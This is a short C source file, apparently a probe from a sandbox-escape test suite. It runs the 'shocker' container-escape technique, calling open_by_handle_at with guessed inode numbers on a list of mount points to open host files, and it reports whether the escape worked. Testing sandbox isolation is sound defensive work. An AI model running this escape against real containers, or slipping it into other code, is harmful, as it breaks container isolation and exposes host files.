/* class: filesystem
 * what: opens host inodes by guessed file handles (the shocker attack): inode 2 and its neighbours, on every mount it can name
 */
#include "attack.h"

struct handle { /* struct file_handle with room */
    unsigned bytes;
    int type;
    unsigned char data[128];
};

int main(void)
{
    static const char *const mounts[] = { "/",       "/usr", "/lib",       "/etc",  "/code",
                                          "/attack", "/tmp", "/workspace", "/proc", "/dev" };
    for (size_t m = 0; m < sizeof mounts / sizeof mounts[0]; m++) {
        int fd = open(mounts[m], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct handle h = { .bytes = 128 };
        int mount_id;
        if (syscall(SYS_name_to_handle_at, fd, "", &h, &mount_id, 0x1000) == 0)
            worked("own handle", syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY));
        for (unsigned inode = 1; inode < 16; inode++) {
            h = (struct handle){ .bytes = 8, .type = 1 /* FILEID_INO32_GEN */ };
            memcpy(h.data, &inode, sizeof inode);
            long got = syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY);
            if (got >= 0)
                escaped("opened inode %u behind %s", inode, mounts[m]);
            if (errno == ESTALE)
                escaped("open_by_handle_at is open for business (ESTALE on %s)", mounts[m]);
            if (inode == 2)
                refused(mounts[m], errno);
        }
        close(fd);
    }
    verdict();
}
